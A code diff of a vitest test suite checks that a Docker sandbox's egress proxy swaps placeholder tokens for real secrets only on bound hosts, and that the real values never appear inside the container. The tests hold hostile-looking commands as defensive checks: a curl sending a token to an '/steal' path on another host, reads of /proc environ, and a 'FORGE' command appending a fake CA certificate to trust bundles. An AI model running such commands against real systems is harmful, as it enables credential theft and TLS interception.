@@ -1,12 +1,13 @@
 // DockerSandbox's `secrets`, and a Workspace whose per-tenant DockerSandboxes each have their
 // own: the container sees placeholders, and the egress proxy on the host puts each sandbox's
 // own real values in its requests to the bound hosts. The test image has busybox only, whose
-// wget sends an https URL to the proxy as a plain request for the proxy to make over TLS.
+// wget sends an https URL to the proxy as a plain request for the proxy to make over TLS; the
+// host's curl, bound in, opens a tunnel and checks the sandbox's CA with the bundle copied in.
 // Judged by what the servers on the host's loopback received (https-fixture.mjs).
 import { RequestContext } from '@mastra/core/request-context'
 import { afterAll, expect, it } from 'vitest'
 import { DockerSandbox, SandboxOptionError, Workspace } from '../lib/index.js'
-import { describeDocker, dockerEngines, removeLabelled } from './docker-engine.mjs'
+import { describeDocker, dockerEngines, engineJson, engineRequest, removeLabelled } from './docker-engine.mjs'
 import { on } from './docker-sandboxes.mjs'
 import { boundTo, brokerOptions, headerValues, recordsWith, tokenLike, useBrokerServers } from './https-fixture.mjs'
 
@@ -17,6 +18,19 @@ const { received, connections, origin, accept, reset } = servers
 /** busybox wget of `url` with the placeholder of `variable` in `Authorization`. */
 const wget = (url, variable = 'GITHUB_TOKEN') => `wget -q -O - --header "Authorization: Bearer $${variable}" "${url}"`
 
+/**
+ * The host's curl, run from the host's /usr bound read-only at /host/usr: a client that opens
+ * a tunnel with CONNECT and verifies the server against the bundle `CURL_CA_BUNDLE` names, so
+ * what it fetches shows that the container trusts its own sandbox's CA.
+ */
+const HOST_USR = { Type: 'bind', Source: '/usr', Target: '/host/usr', ReadOnly: true }
+const curl = (url, variable = 'GITHUB_TOKEN', flags = '') =>
+  `/host/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 --library-path /host/usr/lib/x86_64-linux-gnu /host/usr/bin/curl -sS ${flags} -H "Authorization: Bearer $${variable}" "${url}"`
+
+/** The CA bundle's places in a container, and a command that tries to add a CA of its own to each. */
+const BUNDLES = '/.native-workspace-ca-bundle.pem /etc/ssl/certs/ca-certificates.crt'
+const FORGE = `for f in ${BUNDLES}; do chmod 644 $f && printf '%s\\n' '-----BEGIN CERTIFICATE-----' FORGED '-----END CERTIFICATE-----' >> $f; done; true`
+
 it('refuses a secret bound to a domain allowedDomains does not allow, naming both, and never the value', () => {
   const value = tokenLike('ghp_')
   const make = () =>
@@ -26,21 +40,12 @@ it('refuses a secret bound to a domain allowedDomains does not allow, naming bot
   expect(make).toThrow(expect.not.objectContaining({ message: expect.stringContaining(value) }))
 })
 
-// The sandbox's CA certificate is bound into the container from this host, so an engine
-// elsewhere (the TCP one stands for it) is refused at once, with the reason.
-describeDocker('DockerSandbox secrets on the remote engine', () => {
-  it('are refused with a typed error naming the reason', () => {
-    const { sandbox } = on('remote', RUN)
-    const make = () => sandbox(brokerOptions(servers, { GITHUB_TOKEN: boundTo(servers, tokenLike('ghp_'), 'api.github.com') }))
-    expect(make).toThrow(SandboxOptionError)
-    expect(make).toThrow(/^secrets need a local Docker engine/)
-  })
-})
-
-describeDocker('DockerSandbox secrets on the local engine', () => {
-  const { engine, sandbox } = on('local', RUN)
+// The CA bundle is copied into the container through the engine at each start, so the same
+// holds on the local engine (unix socket) and the remote one (TCP).
+for (const which of ['local', 'remote']) describeDocker(`DockerSandbox secrets on the ${which} engine`, () => {
+  const { engine, sandbox, containerOf } = on(which, RUN)
   const real = tokenLike('ghp_')
-  const brokered = (secrets) => sandbox(brokerOptions(servers, secrets))
+  const brokered = (secrets, options = {}) => sandbox({ ...brokerOptions(servers, secrets), ...options })
   const github = () => ({ GITHUB_TOKEN: boundTo(servers, real, 'api.github.com', 'github.com') })
 
   afterAll(async () => {
@@ -136,6 +141,130 @@ describeDocker('DockerSandbox secrets on the local engine', () => {
       expect(recordsWith(received.filter((q) => q.target === '/protected/stolen'), values.bob)).toEqual([])
     } finally {
       await Promise.allSettled(made.map((box) => box.destroy()))
+    }
+  })
+  it('a value given as bytes and wiped at once is sent; a clone takes the value set last from the sandbox', async () => {
+    reset()
+    const rotated = tokenLike('ghp_')
+    accept(real, rotated)
+    const bytes = Buffer.from(real)
+    const box = brokered({ GITHUB_TOKEN: { ...boundTo(servers, real, 'api.github.com'), value: bytes } })
+    bytes.fill(0)
+    const made = [box]
+    try {
+      expect((await box.executeCommand(wget(`${origin('api.github.com')}/protected/bytes`))).stdout).toBe('authorized by api.github.com\n')
+      const again = Buffer.from(rotated)
+      box.setSecrets({ GITHUB_TOKEN: { ...boundTo(servers, rotated, 'api.github.com'), value: again } })
+      again.fill(0)
+      const clone = box.clone()
+      made.push(clone)
+      expect((await clone.executeCommand(wget(`${origin('api.github.com')}/protected/clone`))).stdout).toBe('authorized by api.github.com\n')
+      expect(received.map((q) => [q.target, headerValues(q, 'authorization')])).toEqual([
+        ['/protected/bytes', [`Bearer ${real}`]],
+        ['/protected/clone', [`Bearer ${rotated}`]],
+      ])
+    } finally {
+      for (const sandbox of made) await sandbox.destroy()
+    }
+  })
+
+  it('curl, through a tunnel and the bundle, brings the real value to the bound host; another allowed host gets the placeholder only', async () => {
+    reset()
+    accept(real)
+    const box = brokered(github(), { mounts: [HOST_USR] })
+    try {
+      const fake = (await box.executeCommand('printf %s "$GITHUB_TOKEN"')).stdout
+      // The tunnelled host's certificate is the test CA's, which the container does not trust.
+      const r = await box.executeCommand(`${curl(`${origin('api.github.com')}/protected/curl`)}; ${curl(`${origin('other.example')}/steal`, 'GITHUB_TOKEN', '-k')}`)
+      expect(r.stderr).toBe('')
+      expect(r.stdout).toMatch(/^authorized by api\.github\.com\n/)
+      expect(received.map((q) => [q.name, q.scheme, q.target, headerValues(q, 'authorization')])).toEqual([
+        ['api.github.com', 'https', '/protected/curl', [`Bearer ${real}`]],
+        ['other.example', 'https', '/steal', [`Bearer ${fake}`]],
+      ])
+    } finally {
+      await box.destroy()
+    }
+  })
+
+  it('after a request carried the real value, it is in no environment, command line or file of the container, nor in its inspection', async () => {
+    reset()
+    accept(real)
+    const box = brokered(github())
+    try {
+      const fake = (await box.executeCommand('printf %s "$GITHUB_TOKEN" > /tmp/placeholder; cat /tmp/placeholder')).stdout
+      expect((await box.executeCommand(wget(`${origin('api.github.com')}/protected/traces`))).stdout).toBe('authorized by api.github.com\n')
+      expect(recordsWith(received, real)).toHaveLength(1)
+      const inside = await box.executeCommand('cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr "\\0" "\\n"')
+      expect(inside.stdout).toContain(`GITHUB_TOKEN=${fake}`)
+      expect(inside.stdout).not.toContain(real)
+      const container = await containerOf(box)
+      const inspected = JSON.stringify(await engineJson(engine, 'GET', `/containers/${container.Id}/json`))
+      expect(inspected).toContain(container.Id)
+      expect(inspected).not.toContain(real)
+      // Every file of the container, as the engine exports them: the placeholder written
+      // above is there, the real value is not.
+      const exported = await engineRequest(engine, 'GET', `/containers/${container.Id}/export`, { timeoutMs: 120_000 })
+      expect(exported.status).toBe(200)
+      expect(exported.body.includes(fake)).toBe(true)
+      expect(exported.body.includes(real)).toBe(false)
+    } finally {
+      await box.destroy()
+    }
+  })
+
+  it("the bundle is root's and read-only: a command of another user cannot change it", async () => {
+    const box = brokered(github(), { user: '65534:65534' })
+    try {
+      const r = await box.executeCommand(`id -u; stat -c '%u %g %a' ${BUNDLES}; printf NOTACERT >> /.native-workspace-ca-bundle.pem 2>/dev/null || echo refused; grep -c NOTACERT /.native-workspace-ca-bundle.pem`)
+      expect(r.stdout).toBe('65534\n0 0 444\n0 0 444\nrefused\n0\n')
+    } finally {
+      await box.destroy()
+    }
+  })
+
+  it('a command that rewrites the bundle changes no later sandbox: its restart, its container found again by another host, a clone of its checkpoint each trust their own CA only', async () => {
+    reset()
+    accept(real)
+    const name = `${RUN}-${which}-forged`
+    const options = { id: name, checkpointName: name, mounts: [HOST_USR] }
+    const first = brokered(github(), options)
+    const made = [first]
+    const forgedIn = async (box) => (await box.executeCommand(`cat ${BUNDLES} | grep -c FORGED; true`)).stdout
+    const fetched = async (box, target) => {
+      const r = await box.executeCommand(curl(`${origin('api.github.com')}/protected/${target}`))
+      return r.stdout + r.stderr
+    }
+    try {
+      expect(await fetched(first, 'first')).toBe('authorized by api.github.com\n')
+      await first.executeCommand(FORGE)
+      // The container's root may change its own copies.
+      expect(await forgedIn(first)).toBe('2\n')
+      await first.snapshot()
+
+      await first.stop()
+      await first.start()
+      expect(await forgedIn(first)).toBe('0\n')
+      expect(await fetched(first, 'restarted')).toBe('authorized by api.github.com\n')
+
+      await first.executeCommand(FORGE)
+      // Another host process reaching the running container: a CA of its own.
+      const again = brokered(github(), options)
+      made.push(again)
+      expect(await forgedIn(again)).toBe('0\n')
+      expect(await fetched(again, 'found-again')).toBe('authorized by api.github.com\n')
+
+      const clone = brokered(github(), { mounts: [HOST_USR], seedCheckpointName: name })
+      made.push(clone)
+      expect(await forgedIn(clone)).toBe('0\n')
+      expect(await fetched(clone, 'clone')).toBe('authorized by api.github.com\n')
+
+      expect(received.map((q) => [q.target, headerValues(q, 'authorization')])).toEqual(
+        ['first', 'restarted', 'found-again', 'clone'].map((target) => [`/protected/${target}`, [`Bearer ${real}`]]),
+      )
+    } finally {
+      for (const box of made.reverse()) await box.destroy().catch(() => {})
+      await engineRequest(engine, 'DELETE', `/images/${encodeURIComponent(`native-workspace-checkpoint:${name}`)}?force=1`)
     }
   })
 })
